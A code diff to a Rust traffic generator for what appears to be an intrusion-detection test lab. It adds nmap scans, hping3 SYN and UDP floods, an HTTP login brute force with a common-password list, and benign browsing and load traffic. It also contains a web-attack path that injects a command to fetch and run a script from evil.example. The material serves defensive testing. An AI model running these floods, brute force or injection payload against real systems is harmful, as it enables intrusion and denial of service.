@@ -1,12 +1,12 @@
 //! Real traffic for the lab: servers on the LAN host, benign use from the client, attacks from the
 //! attacker. Every generator is bounded in packets or time, and targets only lab addresses.
 
-use std::process::Output;
+use std::process::{Command, Output};
 use std::time::Duration;
 
 use anyhow::{Context, Result};
 
-use crate::lab::{Lab, SERVER_V4, SERVER_V6};
+use crate::lab::{Lab, CLIENT_V4, CLIENT_V6, SERVER_V4, SERVER_V6};
 use crate::netns::Netns;
 use crate::process::Managed;
 
@@ -121,54 +121,57 @@ pub fn benign_round(host: &Netns) -> Result<usize> {
     Ok(failed)
 }
 
+/// How nmap probes ports.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub enum ScanKind {
+    /// Half-open SYN scan (`-sS`): a SYN per port, never a completed handshake.
+    Syn,
+    /// Connect scan (`-sT`): full handshakes on open ports, resets from closed ones.
+    Connect,
+}
+
+/// The nmap command that scans the first `ports` ports of `target` (IPv4 or IPv6) from `host`.
+pub fn nmap_command(host: &Netns, kind: ScanKind, target: &str, ports: u16) -> Command {
+    let mut cmd = host.command("nmap");
+    if target.contains(':') {
+        cmd.arg("-6");
+    }
+    cmd.arg(match kind {
+        ScanKind::Syn => "-sS",
+        ScanKind::Connect => "-sT",
+    })
+    .args(["-Pn", "-n", "-T4", "--max-retries", "1", "-p"])
+    .arg(format!("1-{ports}"))
+    .arg(target);
+    cmd
+}
+
 /// An nmap TCP SYN scan of the server's first `ports` ports.
 pub fn nmap_syn_scan(host: &Netns, target: &str, ports: u16) -> Result<Output> {
-    let range = format!("1-{ports}");
-    let mut args = vec![
-        "-sS",
-        "-Pn",
-        "-n",
-        "-T4",
-        "--max-retries",
-        "1",
-        "-p",
-        &range,
-        target,
-    ];
-    if target.contains(':') {
-        args.insert(0, "-6");
-    }
-    host.command("nmap")
-        .args(&args)
+    nmap_command(host, ScanKind::Syn, target, ports)
         .output()
         .context("run nmap")
 }
 
 /// An nmap TCP connect scan of the server's first `ports` ports.
 pub fn nmap_connect_scan(host: &Netns, target: &str, ports: u16) -> Result<Output> {
-    let range = format!("1-{ports}");
-    host.command("nmap")
-        .args([
-            "-sT",
-            "-Pn",
-            "-n",
-            "-T4",
-            "--max-retries",
-            "1",
-            "-p",
-            &range,
-            target,
-        ])
+    nmap_command(host, ScanKind::Connect, target, ports)
         .output()
         .context("run nmap")
 }
 
+/// The hping3 command that sends `count` SYNs to the web port of `target` (IPv4), one every 200 µs.
+pub fn hping3_syn_flood_command(host: &Netns, target: &str, count: u32) -> Command {
+    let mut cmd = host.command("hping3");
+    cmd.args(["-q", "-S", "-p", "80", "-i", "u200", "-c"])
+        .arg(count.to_string())
+        .arg(target);
+    cmd
+}
+
 /// An hping3 SYN flood of `count` packets at the web port.
 pub fn hping3_syn_flood(host: &Netns, target: &str, count: u32) -> Result<Output> {
-    host.command("hping3")
-        .args(["-q", "-S", "-p", "80", "-i", "u200", "-c"])
-        .arg(count.to_string())
-        .arg(target)
+    hping3_syn_flood_command(host, target, count)
         .output()
         .context("run hping3")
 }
@@ -185,24 +188,99 @@ pub const WEB_ATTACKS: &[&str] = &[
     "/cgi-bin/run?cmd=%7Cwget%20http://evil.example/x.sh%20-O-%7Csh",
 ];
 
+/// `host` for a URL: IPv6 addresses in brackets.
+pub fn url_host(addr: &str) -> String {
+    if addr.contains(':') {
+        format!("[{addr}]")
+    } else {
+        addr.to_owned()
+    }
+}
+
+/// One curl process sending every [`WEB_ATTACKS`] request from `host` to `target` in turn, each given up
+/// after 2 s; it prints each answer's HTTP status (`000`: none) on a line.
+pub fn web_attacks_command(host: &Netns, target: &str) -> Command {
+    let mut cmd = host.command("curl");
+    cmd.arg("-s");
+    for (i, path) in WEB_ATTACKS.iter().enumerate() {
+        if i > 0 {
+            cmd.arg("--next");
+        }
+        cmd.args([
+            "-o",
+            "/dev/null",
+            "-w",
+            "%{http_code}\\n",
+            "--max-time",
+            "2",
+        ])
+        .arg(format!("http://{}{path}", url_host(target)));
+    }
+    cmd
+}
+
 /// Sends every [`WEB_ATTACKS`] request from `host`; returns how many got any HTTP answer.
 pub fn web_attacks(host: &Netns, target: &str) -> Result<usize> {
-    let mut answered = 0;
-    for path in WEB_ATTACKS {
-        let out = http_get(
-            host,
-            &format!("http://{target}{path}"),
-            Duration::from_secs(2),
-        )?;
-        if out
-            .stdout
-            .first()
-            .is_some_and(|c| c.is_ascii_digit() && *c != b'0')
-        {
-            answered += 1;
+    let out = web_attacks_command(host, target)
+        .output()
+        .context("run curl")?;
+    Ok(String::from_utf8_lossy(&out.stdout)
+        .lines()
+        .filter(|code| code.starts_with(|c: char| c.is_ascii_digit() && c != '0'))
+        .count())
+}
+
+/// Passwords an HTTP login brute force tries (with a counter appended once the list is through).
+const PASSWORDS: &[&str] = &[
+    "123456", "password", "admin", "letmein", "qwerty", "welcome", "monkey", "dragon", "master",
+    "sunshine", "princess", "football", "iloveyou", "trustno1", "baseball", "shadow",
+];
+
+/// One curl process brute-forcing an HTTP login from `host`: `attempts` form POSTs of user `admin`
+/// with a different password each to `/login` on `target`, each on a connection of its own, at most
+/// `per_sec` a second (curl's `--rate`), as a password-guessing tool does. Each attempt gives up
+/// after a second without a connection, so a dropped attacker does not stall it for long.
+pub fn http_brute_force_command(
+    host: &Netns,
+    target: &str,
+    attempts: u32,
+    per_sec: u32,
+) -> Command {
+    let mut cmd = host.command("curl");
+    cmd.arg("-s").arg("--rate").arg(format!("{per_sec}/s"));
+    let url = format!("http://{}/login", url_host(target));
+    for i in 0..attempts as usize {
+        if i > 0 {
+            cmd.arg("--next");
         }
+        let password = match PASSWORDS.get(i) {
+            Some(p) => (*p).to_owned(),
+            None => format!("{}{}", PASSWORDS[i % PASSWORDS.len()], i / PASSWORDS.len()),
+        };
+        cmd.args([
+            "-o",
+            "/dev/null",
+            "--connect-timeout",
+            "1",
+            "--max-time",
+            "2",
+        ])
+        .args(["-H", "Connection: close", "--data"])
+        .arg(format!("username=admin&password={password}"))
+        .arg(&url);
     }
-    Ok(answered)
+    cmd
+}
+
+/// The hping3 command of a UDP flood from `host`: `count` empty datagrams to a closed port of `target`
+/// (IPv4), one every 200 µs, each from another source port. Its source address could be forged, so
+/// Argus must not ban on it unless `enforcer.ban_spoofable_evidence` is set.
+pub fn hping3_udp_flood_command(host: &Netns, target: &str, count: u32) -> Command {
+    let mut cmd = host.command("hping3");
+    cmd.args(["-q", "--udp", "-p", "9", "-i", "u200", "-c"])
+        .arg(count.to_string())
+        .arg(target);
+    cmd
 }
 
 /// Extra addresses of the benign client namespace, so the baseline has many sources with different
@@ -229,6 +307,78 @@ pub fn add_bulk_file(lab: &Lab, megabytes: usize) -> Result<()> {
     Ok(())
 }
 
+/// Pages of the lab's web site ([`add_site`]), each with its own set of assets.
+pub const SITE_PAGES: usize = 4;
+
+/// A small web site on the server for browser-like page loads: `/site/page<N>.html` (N below
+/// [`SITE_PAGES`]), each referencing 6 to 24 stylesheets, scripts and images of 1 to 60 KiB.
+pub fn add_site(lab: &Lab) -> Result<()> {
+    let dir = lab.path("www").join("site");
+    std::fs::create_dir_all(&dir)?;
+    for page in 0..SITE_PAGES {
+        let mut html = String::from("<!doctype html><html><head><title>lab</title>\n");
+        for (n, (name, kib)) in site_assets(page).into_iter().enumerate() {
+            let body: Vec<u8> = (0..kib * 1024)
+                .map(|i| (i.wrapping_mul(2_654_435_761) >> (n % 13)) as u8)
+                .collect();
+            std::fs::write(dir.join(&name), body)?;
+            html.push_str(&format!("<link rel=\"preload\" href=\"/site/{name}\">\n"));
+        }
+        html.push_str("</head><body><p>a lab page</p></body></html>\n");
+        std::fs::write(dir.join(format!("page{page}.html")), html)?;
+    }
+    Ok(())
+}
+
+/// The assets page `page` of the site references: file name under `/site/` and size in KiB.
+fn site_assets(page: usize) -> Vec<(String, usize)> {
+    let count = |p: usize| 6 + p * 6;
+    let first: usize = (0..page).map(count).sum();
+    (first..first + count(page))
+        .map(|n| match n % 3 {
+            0 => (format!("asset{n}.css"), 1 + n % 8),
+            1 => (format!("asset{n}.js"), 4 + n % 24),
+            _ => (format!("asset{n}.png"), 8 + n % 52),
+        })
+        .collect()
+}
+
+/// A small deterministic generator (SplitMix64), so a traffic schedule is reproducible from its seed.
+#[derive(Debug, Clone)]
+pub struct Rng(u64);
+
+impl Rng {
+    /// A generator seeded with `seed`.
+    pub fn new(seed: u64) -> Self {
+        Self(seed)
+    }
+
+    /// The next 64 random bits.
+    pub fn next_u64(&mut self) -> u64 {
+        self.0 = self.0.wrapping_add(0x9e37_79b9_7f4a_7c15);
+        let mut z = self.0;
+        z = (z ^ (z >> 30)).wrapping_mul(0xbf58_476d_1ce4_e5b9);
+        z = (z ^ (z >> 27)).wrapping_mul(0x94d0_49bb_1331_11eb);
+        z ^ (z >> 31)
+    }
+
+    /// A number in `0..n` (`n` > 0).
+    pub fn below(&mut self, n: u64) -> u64 {
+        self.next_u64() % n
+    }
+
+    /// A uniformly chosen item of the non-empty `items`.
+    pub fn pick<T: Copy>(&mut self, items: &[T]) -> T {
+        items[self.below(items.len() as u64) as usize]
+    }
+
+    /// A duration uniformly between `lo` and `hi`.
+    pub fn between(&mut self, lo: Duration, hi: Duration) -> Duration {
+        let span = hi.saturating_sub(lo).as_millis().max(1) as u64;
+        lo + Duration::from_millis(self.below(span))
+    }
+}
+
 /// One activity of a benign user, from source address `src`.
 #[derive(Debug, Clone, Copy, PartialEq, Eq)]
 pub enum Activity {
@@ -242,21 +392,32 @@ pub enum Activity {
     Dns,
     /// An interactive session: small lines with pauses.
     Interactive,
+    /// A browser loading one page of the lab site ([`add_site`]): the HTML, then its assets over up to
+    /// six parallel connections, as browsers do (the lab server closes every connection after one
+    /// response, so each asset is a connection of its own).
+    PageBurst,
+    /// A short load test: one second of back-to-back page fetches over two connections. `wrk` cannot
+    /// choose its source address, so it runs from the client's primary addresses; other addresses use
+    /// `curl --parallel` for the same shape.
+    Load,
 }
 
 impl Activity {
     /// Every activity.
-    pub const ALL: [Activity; 5] = [
+    pub const ALL: [Activity; 7] = [
         Self::Browse,
         Self::Poll,
         Self::Bulk,
         Self::Dns,
         Self::Interactive,
+        Self::PageBurst,
+        Self::Load,
     ];
 }
 
-/// Runs one activity from `src` (an address of `host`) against the server.
-pub fn run_activity(host: &Netns, src: &str, activity: Activity) -> Result<()> {
+/// Runs one activity from `src` (an address of `host`) against the server; `rng` picks among its
+/// variants (which page a [`Activity::PageBurst`] loads).
+pub fn run_activity(host: &Netns, src: &str, activity: Activity, rng: &mut Rng) -> Result<()> {
     let v6 = src.contains(':');
     let server = if v6 {
         format!("[{SERVER_V6}]")
@@ -326,9 +487,46 @@ pub fn run_activity(host: &Netns, src: &str, activity: Activity) -> Result<()> {
                 Duration::from_millis(120),
             )?;
         }
+        Activity::PageBurst => {
+            let page = rng.below(SITE_PAGES as u64) as usize;
+            let ua = ["-A", "Mozilla/5.0 (X11; Linux x86_64) Firefox/128.0"];
+            curl(&format!("/site/page{page}.html"), &ua)?;
+            let mut parallel = host.command("curl");
+            parallel
+                .args(["-s", "-Z", "--parallel-max", "6", "--max-time", "10"])
+                .args(["--interface", src])
+                .args(ua);
+            for (asset, _) in site_assets(page) {
+                parallel
+                    .args(["-o", "/dev/null"])
+                    .arg(format!("http://{server}/site/{asset}"));
+            }
+            parallel.output().context("run curl")?;
+        }
+        Activity::Load => {
+            let url = format!("http://{server}/");
+            if src == CLIENT_V4 || src == CLIENT_V6 {
+                host.command("wrk")
+                    .args(["-t1", "-c2", "-d1s", &url])
+                    .output()
+                    .context("run wrk")?;
+            } else {
+                let mut load = host.command("curl");
+                load.args(["-s", "-Z", "--parallel-max", "2", "--max-time", "5"])
+                    .args(["--interface", src]);
+                for _ in 0..LOAD_REQUESTS {
+                    load.args(["-o", "/dev/null", &url]);
+                }
+                load.output().context("run curl")?;
+            }
+        }
     }
     Ok(())
 }
+
+/// Requests of a [`Activity::Load`] run with curl: about what wrk manages in its second against the lab
+/// server.
+const LOAD_REQUESTS: usize = 400;
 
 /// Connects socat to `address` from `host`, writes `lines` with `gap` between them, and waits for the
 /// session to end (socat's one-second idle timeout).
